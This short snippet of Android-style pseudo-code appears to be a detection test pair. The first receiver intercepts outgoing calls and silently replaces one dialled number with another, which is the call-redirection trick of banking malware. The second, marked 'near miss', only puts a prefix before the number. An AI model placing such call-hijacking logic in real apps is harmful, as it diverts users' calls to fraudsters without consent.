permissions("PROCESS_OUTGOING_CALLS", "CALL_PHONE")

@receiver(actions=["android.intent.action.NEW_OUTGOING_CALL"])
class Dialled(BroadcastReceiver):
    def onReceive(self, context, intent):
        number = self.getResultData()
        if number.equals("18005550100"):
            self.setResultData("15550100")

# near miss: puts a prefix before the number that was dialled
@receiver(actions=["android.intent.action.NEW_OUTGOING_CALL"])
class Dialled(BroadcastReceiver):
    def onReceive(self, context, intent):
        number = self.getResultData()
        if number.equals("18005550100"):
            self.setResultData("15550100".concat(number))
